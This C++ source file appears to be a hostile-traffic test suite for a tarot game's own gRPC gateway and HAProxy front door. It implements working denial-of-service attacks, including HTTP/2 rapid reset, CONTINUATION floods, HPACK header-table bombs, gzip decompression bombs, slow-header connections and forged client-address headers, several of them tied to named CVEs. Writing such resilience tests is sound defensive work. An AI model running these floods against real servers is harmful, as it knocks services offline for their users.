#include "tests/hostile/attacks.h"

#include <signal.h>
#include <zlib.h>

#include <chrono>
#include <functional>
#include <memory>
#include <thread>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "libs/base/check.h"
#include "libs/base/clock.h"
#include "tarot/gateway/v1/session_service.pb.h"
#include "tarot/rules/v1/table_service.pb.h"

namespace tarot::hostile {
namespace {

using Stop = std::atomic<bool>;

constexpr absl::string_view kGetTable = "/tarot.rules.v1.TableService/GetTable";
constexpr absl::string_view kWatchTable = "/tarot.rules.v1.TableService/WatchTable";
constexpr absl::string_view kHealth = "/grpc.health.v1.Health/Check";
// The message of CreateGuestSession: the display name is Eve.
constexpr absl::string_view kEve =
    "\x0a\x03"
    "Eve";
// SETTINGS_HEADER_TABLE_SIZE and SETTINGS_INITIAL_WINDOW_SIZE.
constexpr int kTableSize = 1, kWindow = 4;

void Sleep(int ms) { std::this_thread::sleep_for(std::chrono::milliseconds(ms)); }

// One connection of an attacker, and the number of its next stream.
struct Line {
  Line(const Target& target, int source) : connection(target, source) {}

  RawConnection connection;
  unsigned stream = 1;
};

// Keeps up to `count` connections open, divided among the attacker's addresses, and replaces
// connections that have ended. Sends the result of `first` on each new connection. Then sends the
// results of `each` on every connection, with pauses of `pause_ms`.
void Keep(const Target& target, std::size_t count, int pause_ms, const Stop& stopping,
          const std::function<std::string(Line&)>& first,
          const std::function<std::string(Line&)>& each) {
  std::vector<std::unique_ptr<Line>> lines;
  for (int opened = 0; !stopping;) {
    for (int i = 0; i < 200 && !stopping && lines.size() < count; ++i) {
      auto line = std::make_unique<Line>(target, opened++);
      if (line->connection.Open() && line->connection.Push(first(*line))) {
        lines.push_back(std::move(line));
      } else {
        Sleep(1);
      }
    }
    std::erase_if(lines, [&](const auto& line) {
      RawConnection& connection = line->connection;
      if (!connection.Open() || !connection.Push("")) return true;
      return connection.pushed() && line->stream < 1u << 30 && !connection.Push(each(*line));
    });
    Sleep(pause_ms);
  }
}

std::string OnlyPreface(Line&) { return Preface(); }
std::string Nothing(Line&) { return ""; }

// Holds more connections than the usual limit of 1,024 descriptors. Debian's gRPC accepts no
// connection any more after it has reached its limit (CVE-2023-4785).
std::string HoldConnections(const Target& target, const Stop& stopping) {
  Keep(target, 1'200, 20, stopping, Nothing, Nothing);
  return "";
}

// Makes one call on each connection. Then HAProxy keeps the connection open for the next call.
std::string HoardConnections(const Target& target, const Stop& stopping) {
  const auto call = [](Line&) {
    return absl::StrCat(Preface(), HeadersOf(1, kGetTable), MessageOf(1, ""));
  };
  Keep(target, 10'000, 20, stopping, call, Nothing);
  return "";
}

std::string OpenAndClose(const Target& target, const Stop& stopping) {
  for (int i = 0; !stopping; ++i) {
    const RawConnection connection(target, i);
  }
  return "";
}

// CVE-2023-44487: opens streams and resets them at full speed.
std::string ResetStreams(const Target& target, const Stop& stopping) {
  Keep(target, 4, 0, stopping, OnlyPreface, [](Line& line) {
    std::string burst;
    for (int i = 0; i < 200; ++i, line.stream += 2) {
      absl::StrAppend(&burst, HeadersOf(line.stream, kSignIn), ResetOf(line.stream));
    }
    return burst;
  });
  return "";
}

// Sends complete calls at full speed and resets each of them. The door (HAProxy) may forward such a
// call before the reset comes.
std::string ResetCalls(const Target& target, const Stop& stopping) {
  Keep(target, 40, 0, stopping, OnlyPreface, [](Line& line) {
    std::string burst;
    for (int i = 0; i < 50; ++i, line.stream += 2) {
      absl::StrAppend(&burst, HeadersOf(line.stream, kGetTable), MessageOf(line.stream, ""));
    }
    for (unsigned stream = line.stream - 100; stream < line.stream; stream += 2) {
      burst += ResetOf(stream);
    }
    return burst;
  });
  return "";
}

// Sends complete calls at full speed: calls without a token, health checks and sign-ins.
std::string FloodCalls(const Target& target, const Stop& stopping) {
  Keep(target, 40, 0, stopping, OnlyPreface, [](Line& line) {
    std::string burst;
    for (int i = 0; i < 50; ++i, line.stream += 2) {
      const absl::string_view path = i % 3 == 0 ? kGetTable : i % 3 == 1 ? kHealth : kSignIn;
      absl::StrAppend(&burst, HeadersOf(line.stream, path),
                      MessageOf(line.stream, path == kSignIn ? kEve : ""));
    }
    return burst;
  });
  return "";
}

// Opens 300,000 calls whose message never comes.
std::string OpenHalfCalls(const Target& target, const Stop& stopping) {
  const auto open = [](Line& line) {
    std::string calls = Preface();
    for (; line.stream < 500; line.stream += 2) calls += HeadersOf(line.stream, kSignIn);
    return calls;
  };
  Keep(target, 1'200, 20, stopping, open, Nothing);
  return "";
}

// Opens 200 connections whose headers come some bytes at a time and never end.
std::string SendSlowHeaders(const Target& target, const Stop& stopping) {
  const auto begin = [](Line& line) {
    return absl::StrCat(Preface(), Frame(kHeaders, 0, line.stream, HeaderBlock(kSignIn)));
  };
  const auto more = [](Line& line) {
    return Frame(kContinuation, 0, line.stream, Header("a", "b"));
  };
  Keep(target, 200, 20, stopping, begin, more);
  return "";
}

// CVE-2024-27316 and others: sends headers that never end, at full speed.
std::string FloodContinuations(const Target& target, const Stop& stopping) {
  const auto begin = [](Line& line) {
    return absl::StrCat(Preface(), Frame(kHeaders, 0, line.stream, HeaderBlock(kSignIn)));
  };
  const auto more = [](Line& line) {
    std::string burst;
    for (int i = 0; i < 200; ++i) burst += Frame(kContinuation, 0, line.stream, "");
    return burst;
  };
  Keep(target, 8, 0, stopping, begin, more);
  return "";
}

// CVE-2023-33953: adds a large header to HPACK's dynamic table. Then each further byte repeats this
// header.
std::string BombHeaderTables(const Target& target, const Stop& stopping) {
  const auto begin = [](Line&) { return Preface({{kTableSize, 1u << 20}}); };
  const auto bomb = [](Line& line) {
    std::string burst;
    for (int i = 0; i < 20; ++i, line.stream += 2) {
      std::string block = HeaderBlock(kSignIn);
      // Sets the size of the dynamic table to 0 and back to 4,096 bytes, then adds the header.
      block = absl::StrCat("\x20\x3f\xe1\x1f", block, Header("bomb", std::string(3'000, 'x'), true),
                           std::string(2'000, '\xbe'));
      absl::StrAppend(&burst, Frame(kHeaders, kEndHeaders, line.stream, block),
                      MessageOf(line.stream, kEve));
    }
    return burst;
  };
  Keep(target, 6, 0, stopping, begin, bomb);
  return "";
}

std::string FloodPings(const Target& target, const Stop& stopping) {
  Keep(target, 8, 0, stopping, OnlyPreface, [](Line&) {
    std::string burst;
    for (int i = 0; i < 500; ++i) burst += Frame(kPing, 0, 0, "12345678");
    return burst;
  });
  return "";
}

std::string FloodSettings(const Target& target, const Stop& stopping) {
  Keep(target, 8, 0, stopping, OnlyPreface, [](Line&) {
    std::string burst;
    for (int i = 0; i < 500; ++i) burst += Frame(kSettings, 0, 0, "");
    return burst;
  });
  return "";
}

// Signs up to `count` guests in. Returns the headers that each guest's calls need.
std::vector<Headers> SignIn(const Target& target, int count, const Stop& stopping) {
  std::vector<Headers> guests;
  for (int i = 0; static_cast<int>(guests.size()) < count && i < 10 * count && !stopping; ++i) {
    RawConnection connection(target, i);
    gateway::v1::CreateGuestSessionResponse response;
    const Answer answer = connection.Call(kSignIn, kEve, {}, absl::Seconds(5));
    if (answer.status != 0 || !response.ParseFromString(answer.message)) {
      // For three seconds after an attack, the door (HAProxy) takes no connections from the
      // addresses of the attack.
      Sleep(100);
      continue;
    }
    guests.push_back({{"authorization", absl::StrCat("Bearer ", response.session().token())},
                      {"x-attacker", response.session().player()}});
  }
  return guests;
}

// Guests make calls, but their flow control windows never let the server send the answers.
std::string LeaveAnswersUnread(const Target& target, const Stop& stopping) {
  const std::vector<Headers> guests = SignIn(target, 40, stopping);
  if (guests.empty()) return "No guest could sign in.";
  std::size_t next = 0;
  const auto begin = [](Line& line) {
    line.connection.ShrinkBuffers();
    return Preface({{kWindow, 0}});
  };
  const auto calls = [&](Line& line) {
    std::string burst;
    for (int i = 0; i < 20; ++i, line.stream += 2) {
      absl::StrAppend(&burst,
                      HeadersOf(line.stream, "/tarot.matchmaking.v1.MatchmakingService/ListQueues",
                                guests[next++ % guests.size()]),
                      MessageOf(line.stream, ""));
    }
    return burst;
  };
  Keep(target, 200, 5, stopping, begin, calls);
  return "";
}

// Returns the first bytes of a connection whose flow control windows let the server always send.
std::string OpenWindows() {
  return absl::StrCat(Preface({{kWindow, 0x7fffffff}}),
                      Frame(kWindowUpdate, 0, 0, absl::string_view("\x7f\xff\x00\x00", 4)));
}

// Returns zeros, compressed by gzip to 8 KiB, as one message of gRPC.
std::string CompressedZeros() {
  const std::string zeros(8'300'000, 0);
  std::string out(1 << 16, 0);
  z_stream stream{};
  constexpr int kGzip = 15 + 16;  // The largest window, in the format of gzip.
  TAROT_CHECK(deflateInit2(&stream, 9, Z_DEFLATED, kGzip, 9, Z_DEFAULT_STRATEGY) == Z_OK);
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(zeros.data()));
  stream.avail_in = static_cast<uInt>(zeros.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  TAROT_CHECK(deflate(&stream, Z_FINISH) == Z_STREAM_END);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  std::string prefix(1, '\x01');  // The message is compressed.
  for (int shift = 24; shift >= 0; shift -= 8) {
    prefix += static_cast<char>(out.size() >> shift & 0xff);
  }
  return prefix + out;
}

// Sends messages that grow a thousandfold when gRPC decompresses them, at a moderate speed.
std::string SendCompressed(const Target& target, const Stop& stopping) {
  const std::string message = CompressedZeros();
  const auto open = [](Line&) { return OpenWindows(); };
  Keep(target, 6, 50, stopping, open, [&](Line& line) {
    const std::string call =
        absl::StrCat(HeadersOf(line.stream, kSignIn, {{"grpc-encoding", "gzip"}}),
                     Frame(kData, kEndStream, line.stream, message));
    line.stream += 2;
    return call;
  });
  return "";
}

// 90 guests of one address make some 60 calls per second each, and read every answer. No single
// guest or connection breaks a rule of the platform; only the sum of their calls is an attack.
std::string CallAsManyGuests(const Target& target, const Stop& stopping) {
  const std::vector<Headers> guests = SignIn(target, 90, stopping);
  if (guests.size() < 80) return "The guests could not sign in.";
  const auto open = [](Line&) { return OpenWindows(); };
  std::size_t next = 0;
  Keep(target, 90, 15, stopping, open, [&](Line& line) {
    const std::string call =
        absl::StrCat(HeadersOf(line.stream, "/tarot.matchmaking.v1.MatchmakingService/ListQueues",
                               guests[next++ % guests.size()]),
                     MessageOf(line.stream, ""));
    line.stream += 2;
    return call;
  });
  return "";
}

// Returns the name of the player whose calls have these headers.
std::string NameOf(const Headers& guest) { return guest[1].second; }

// Returns the name of a table that does not exist. Each call returns another name.
std::string InventedTable() {
  static std::atomic<unsigned> last = 0;
  return absl::StrFormat("tables/%08x-0000-4000-8000-00000000e71e", ++last);
}

// Returns a request whose first field is `name`.
std::string RequestFor(absl::string_view name) {
  return absl::StrCat("\x0a", std::string(1, static_cast<char>(name.size())), name);
}

// 90 guests watch and read tables that do not exist.
std::string NameInventedTables(const Target& target, const Stop& stopping) {
  const std::vector<Headers> guests = SignIn(target, 90, stopping);
  if (guests.size() < 80) return "The guests could not sign in.";
  const Answer first = RawConnection(target).Call(kGetTable, RequestFor(InventedTable()), guests[0],
                                                  absl::Seconds(5));
  constexpr int kNotFound = 5;
  if (first.status != kNotFound) return absl::StrCat("GetTable answered ", first.status, ".");
  const auto open = [](Line&) { return OpenWindows(); };
  std::size_t next = 0;
  Keep(target, 90, 25, stopping, open, [&](Line& line) {
    std::string calls;
    for (const absl::string_view path : {kWatchTable, kGetTable}) {
      absl::StrAppend(&calls, HeadersOf(line.stream, path, guests[next++ % guests.size()]),
                      MessageOf(line.stream, RequestFor(InventedTable())));
      line.stream += 2;
    }
    return calls;
  });
  return "";
}

// 40 guests ask one guest to be friends, again and again.
std::string AskOneGuest(const Target& target, const Stop& stopping) {
  const std::vector<Headers> guests = SignIn(target, 40, stopping);
  if (guests.size() < 40) return "The guests could not sign in.";
  // The service knows a guest only after the guest's first call to it, so guest 0 makes a call.
  constexpr absl::string_view kFriends = "/tarot.matchmaking.v1.FriendService/";
  const Answer known = RawConnection(target).Call(absl::StrCat(kFriends, "ListFriends"), "",
                                                  guests[0], absl::Seconds(5));
  if (known.status != 0) return absl::StrCat("ListFriends answered ", known.status, ".");
  const std::string request = RequestFor(NameOf(guests[0]));
  const auto open = [](Line&) { return OpenWindows(); };
  std::size_t next = 0;
  Keep(target, 40, 15, stopping, open, [&](Line& line) {
    next = next % (guests.size() - 1) + 1;
    const std::string call =
        absl::StrCat(HeadersOf(line.stream, absl::StrCat(kFriends, "RequestFriend"), guests[next]),
                     MessageOf(line.stream, request));
    line.stream += 2;
    return call;
  });
  return "";
}

// Ten guests read finished tables at full speed. Each read replays a log.
std::string ReadFinishedTables(const Target& target, const Stop& stopping) {
  const std::vector<Headers> guests = SignIn(target, 10, stopping);
  if (guests.size() < 10) return "The guests could not sign in.";
  rules::v1::ListTablesRequest list;
  list.set_show_finished(true);
  list.set_page_size(20);
  rules::v1::ListTablesResponse page;
  const Answer answer =
      RawConnection(target).Call("/tarot.rules.v1.TableService/ListTables",
                                 list.SerializeAsString(), guests[0], absl::Seconds(5));
  if (answer.status != 0 || !page.ParseFromString(answer.message) || page.tables_size() < 20) {
    return "The server returned no list.";
  }
  const auto open = [](Line&) { return OpenWindows(); };
  int next = 0;
  Keep(target, 20, 5, stopping, open, [&](Line& line) {
    std::string calls;
    for (int i = 0; i < 4; ++i, ++next, line.stream += 2) {
      absl::StrAppend(&calls, HeadersOf(line.stream, kGetTable, guests[next % 10]),
                      MessageOf(line.stream, RequestFor(page.tables(next % 20).name())));
    }
    return calls;
  });
  return "";
}

// 64 guests open 16 watches each, on tables where honest players play, and read every view.
std::string CrowdTables(const Target& target, const Stop& stopping) {
  const std::vector<Headers> guests = SignIn(target, 64, stopping);
  if (guests.size() < 64) return "The guests could not sign in.";
  rules::v1::ListTablesResponse page;
  const Answer answer = RawConnection(target).Call("/tarot.rules.v1.TableService/ListTables", "",
                                                   guests[0], absl::Seconds(5));
  if (answer.status != 0 || !page.ParseFromString(answer.message) || page.tables().empty()) {
    return "The server returned no list.";
  }
  std::size_t next = 0;
  const auto watches = [&](Line& line) {
    std::string burst = OpenWindows();
    const Headers& guest = guests[next++ % guests.size()];
    for (int i = 0; i < 16; ++i, line.stream += 2) {
      const auto table =
          (next + static_cast<std::size_t>(i)) % static_cast<std::size_t>(page.tables_size());
      absl::StrAppend(
          &burst, HeadersOf(line.stream, kWatchTable, guest),
          MessageOf(line.stream, RequestFor(page.tables(static_cast<int>(table)).name())));
    }
    return burst;
  };
  Keep(target, 64, 20, stopping, watches, Nothing);
  return "";
}

// Sends malformed binary headers and paths of thousands of bytes. Each call must get an answer.
std::string SendOddHeaders(const Target& target, const Stop& stopping) {
  constexpr int kUnimplemented = 12;
  const std::string long_path = absl::StrCat("/tarot.", std::string(5'000, 'x'), "/Y");
  const std::string odd_path = absl::StrCat("/tarot.", std::string(500, '\xff'), "/Y");
  while (!stopping) {
    for (const char* header : {"x-bin", "grpc-trace-bin", "grpc-tags-bin", "authorization-bin"}) {
      const Answer answer = RawConnection(target).Call(
          kSignIn, kEve, {{header, "!!! no base64 ==="}}, absl::Seconds(5));
      // If this address has used up its sign-ins, the answer is RATE_LIMITED (code 8).
      if (answer.status != 0 && answer.status != 8) {
        return absl::StrCat("A call with the header ", header, " got ", answer.status, ".");
      }
    }
    for (const std::string& path : {long_path, odd_path}) {
      const Answer answer = RawConnection(target).Call(path, "", {}, absl::Seconds(5));
      if (answer.status != kUnimplemented) {
        return absl::StrCat("A path of ", path.size(), " bytes got ", answer.status, ".");
      }
    }
    Sleep(50);
  }
  return "";
}

// Ten guests ask for pages of finished matches at full speed, and read the answers.
std::string ListFinishedTables(const Target& target, const Stop& stopping) {
  const std::vector<Headers> guests = SignIn(target, 10, stopping);
  if (guests.size() < 10) return "The guests could not sign in.";
  const absl::string_view path = "/tarot.rules.v1.TableService/ListTables";
  const absl::string_view page = "\x10\x01\x18\x64";  // show_finished is true, page_size is 100.
  const Answer first = RawConnection(target).Call(path, page, guests[0], absl::Seconds(5));
  if (first.status != 0 || first.message.size() < 10'000) return "The server returned no list.";
  const auto begin = [](Line&) { return OpenWindows(); };
  std::size_t next = 0;
  const auto lists = [&](Line& line) {
    std::string burst;
    for (int i = 0; i < 4; ++i, line.stream += 2) {
      absl::StrAppend(&burst, HeadersOf(line.stream, path, guests[next++ % guests.size()]),
                      MessageOf(line.stream, page));
    }
    return burst;
  };
  Keep(target, 20, 1, stopping, begin, lists);
  return "";
}

// Signs guests in, all from one address. Each call forges the header with the client's address,
// which only the door (HAProxy) may set: it names a new address. The door must replace the forged
// header. Then the gateway counts all sign-ins for one address, and accepts 100 of them at first
// and then 5 a second.
std::string ForgeAddresses(const Target& target, const Stop& stopping) {
  const Stopwatch watch;
  int accepted = 0;
  for (int i = 0; !stopping; ++i) {
    const std::string forged = absl::StrCat("192.0.", i / 256 % 256, ".", i % 256);
    RawConnection connection(target);
    accepted +=
        connection.Call(kSignIn, kEve, {{"x-tarot-client-address", forged}}, absl::Seconds(5))
            .status == 0;
    Sleep(5);
  }
  const double fair = 100 + 5 * absl::ToDoubleSeconds(watch.Elapsed()) + 1;
  if (accepted <= fair) return "";
  return absl::StrCat(accepted, " sign-ins of one address were accepted, not ", fair);
}

// Returns the target's door for browsers.
Target PageOf(const Target& target) {
  Target page = target;
  page.port = target.page_port;
  if (!page.socket.empty()) page.socket += ".http";
  return page;
}

// Returns one call of a browser.
std::string WebCallOf(absl::string_view path, absl::string_view message, absl::string_view token) {
  const auto size = static_cast<char>(message.size());
  return absl::StrCat("POST ", path, " HTTP/1.1\r\nHost: tarot\r\n",
                      "Content-Type: application/grpc-web+proto\r\nAuthorization: Bearer ", token,
                      "\r\nContent-Length: ", message.size() + 5, "\r\n\r\n", std::string(4, '\0'),
                      std::string(1, size), message);
}

// Sends calls of browsers at full speed: sign-ins, files, and calls from pages of other origins.
std::string FloodWebCalls(const Target& target, const Stop& stopping) {
  Keep(PageOf(target), 40, 0, stopping, Nothing, [](Line&) {
    std::string burst;
    for (int i = 0; i < 10; ++i) {
      absl::StrAppend(&burst, WebCallOf(kSignIn, kEve, "none"),
                      "GET /t/1 HTTP/1.1\r\nHost: tarot\r\n\r\n", "POST ", kSignIn,
                      " HTTP/1.1\r\nHost: tarot\r\nOrigin: https://evil\r\n",
                      "Content-Length: 0\r\n\r\n");
    }
    return burst;
  });
  return "";
}

// Opens 1,200 connections of browsers whose headers or bodies come one byte at a time.
std::string SendSlowWebCalls(const Target& target, const Stop& stopping) {
  const auto begin = [](Line& line) {
    const std::string call = WebCallOf(kSignIn, kEve, "none");
    line.stream = line.stream + 1;
    return line.stream % 2 == 0 ? call.substr(0, call.size() - 4) : std::string("POST / HTTP/1.1");
  };
  Keep(PageOf(target), 1'200, 100, stopping, begin, [](Line&) { return std::string("x"); });
  return "";
}

// Opens streams of one guest on 5,000 connections of browsers, and reads nothing.
std::string OpenWebStreams(const Target& target, const Stop& stopping) {
  const auto call = [&target](absl::string_view path, absl::string_view message,
                              const Headers& headers) {
    return RawConnection(target).Call(path, message, headers, absl::Seconds(5)).message;
  };
  gateway::v1::CreateGuestSessionResponse guest;
  if (!guest.ParseFromString(call(kSignIn, kEve, {}))) return "The attacker could not sign in.";
  const std::string& token = guest.session().token();
  rules::v1::ListTablesResponse tables;
  if (!tables.ParseFromString(call("/tarot.rules.v1.TableService/ListTables", "",
                                   {{"authorization", absl::StrCat("Bearer ", token)}})) ||
      tables.tables().empty()) {
    return "The attacker found no table.";
  }
  rules::v1::WatchTableRequest request;
  request.set_name(tables.tables(0).name());
  const std::string watch =
      WebCallOf("/tarot.rules.v1.TableService/WatchTable", request.SerializeAsString(), token);
  const auto open = [&](Line& line) {
    line.connection.ShrinkBuffers();
    return watch;
  };
  Keep(PageOf(target), 5'000, 20, stopping, open, Nothing);
  return "";
}

// Gets a large file on 980 connections and reads none of them. Opens each connection again before
// the door (HAProxy) closes it.
std::string LeaveFilesUnread(const Target& target, const Stop& stopping) {
  constexpr std::size_t kConnections = 980;
  constexpr absl::Duration kLife = absl::Seconds(6);
  const Target page = PageOf(target);
  struct Reader {
    std::unique_ptr<RawConnection> connection;
    Stopwatch age;
  };
  std::vector<Reader> readers(kConnections);
  for (std::size_t i = 0; !stopping; i = (i + 1) % kConnections) {
    Reader& reader = readers[i];
    if (i == 0) Sleep(100);
    if (reader.connection != nullptr && reader.age.Elapsed() < kLife) continue;
    reader = {.connection = std::make_unique<RawConnection>(page, static_cast<int>(i)), .age = {}};
    reader.connection->ShrinkBuffers();
    reader.connection->Push("GET /assets/main.js HTTP/1.1\r\nHost: tarot\r\n\r\n");
  }
  return "";
}

// Speaks HTTP/2 at the door for browsers, and opens 250 calls on each of 400 connections whose
// message never comes. Without TLS, this door does not speak HTTP/2.
std::string OpenHalfWebCalls(const Target& target, const Stop& stopping) {
  const auto open = [](Line& line) {
    std::string calls = Preface();
    for (; line.stream < 500; line.stream += 2) calls += HeadersOf(line.stream, kSignIn);
    return calls;
  };
  Keep(PageOf(target), 400, 20, stopping, open, Nothing);
  return "";
}

// This is no attack. Every two seconds, the test sends HAProxy the signal by which operators make
// it load its configuration again.
std::string ReloadDoor(const Target& target, const Stop& stopping) {
  while (!stopping) {
    kill(target.door, SIGUSR2);
    for (int i = 0; i < 20 && !stopping; ++i) Sleep(100);
  }
  return "";
}

}  // namespace

const std::vector<Attack>& Attacks() {
  static const auto& attacks = *new std::vector<Attack>{
      {"none", "does nothing, for comparison",
       [](const Target&, const Stop&) { return std::string(); }},
      {"connections", "holds 1,200 connections open without a byte", HoldConnections},
      {"hoarding", "makes one call on each of 10,000 connections and keeps them", HoardConnections},
      {"churn", "opens and closes connections at full speed", OpenAndClose},
      {"resets", "opens and resets streams at full speed", ResetStreams},
      {"call_resets", "sends and resets whole calls at full speed", ResetCalls},
      {"calls", "makes whole calls at full speed", FloodCalls},
      {"half_calls", "opens 300,000 calls whose message never comes", OpenHalfCalls},
      {"slow_headers", "sends headers on 200 connections that never end", SendSlowHeaders},
      {"continuations", "sends empty headers that never end at full speed", FloodContinuations},
      {"header_tables", "sends header tables that make headers large", BombHeaderTables},
      {"pings", "sends pings at full speed", FloodPings},
      {"settings", "sends settings at full speed", FloodSettings},
      {"unread", "makes calls of guests and never reads their answers", LeaveAnswersUnread},
      {"compressed", "sends messages of 8 KiB that hold 8 MB of zeros", SendCompressed},
      {"guests", "makes 60 calls per second as each of 90 guests", CallAsManyGuests},
      {"lists", "asks for pages of finished matches as ten guests", ListFinishedTables, 50},
      {"invented_tables", "watches and reads tables that do not exist as 90 guests",
       NameInventedTables, 100, 60, true},
      {"finished_tables", "reads finished tables as ten guests", ReadFinishedTables},
      {.name = "spectators",
       .text = "watches the tables of honest players 1,000 times",
       .run = CrowdTables,
       .watches = true},
      {"friends", "asks one guest to be friends as 40 guests", AskOneGuest},
      {"odd_headers", "sends malformed binary headers and long paths", SendOddHeaders},
      {"forged_address", "signs in under forged addresses", ForgeAddresses},
      {"web_calls", "sends requests of browsers at full speed", FloodWebCalls},
      {"web_slow", "sends headers and bodies of browsers that never end", SendSlowWebCalls},
      {.name = "web_streams",
       .text = "opens streams on 5,000 connections of browsers",
       .run = OpenWebStreams,
       .watches = true},
      {"web_unread", "gets files on 980 connections of browsers and does not read them",
       LeaveFilesUnread},
      {"web_h2_halves", "opens 100,000 half calls over HTTP/2 at the door for browsers",
       OpenHalfWebCalls},
      {"reloads", "loads the door's configuration every two seconds", ReloadDoor},
  };
  return attacks;
}

}  // namespace tarot::hostile
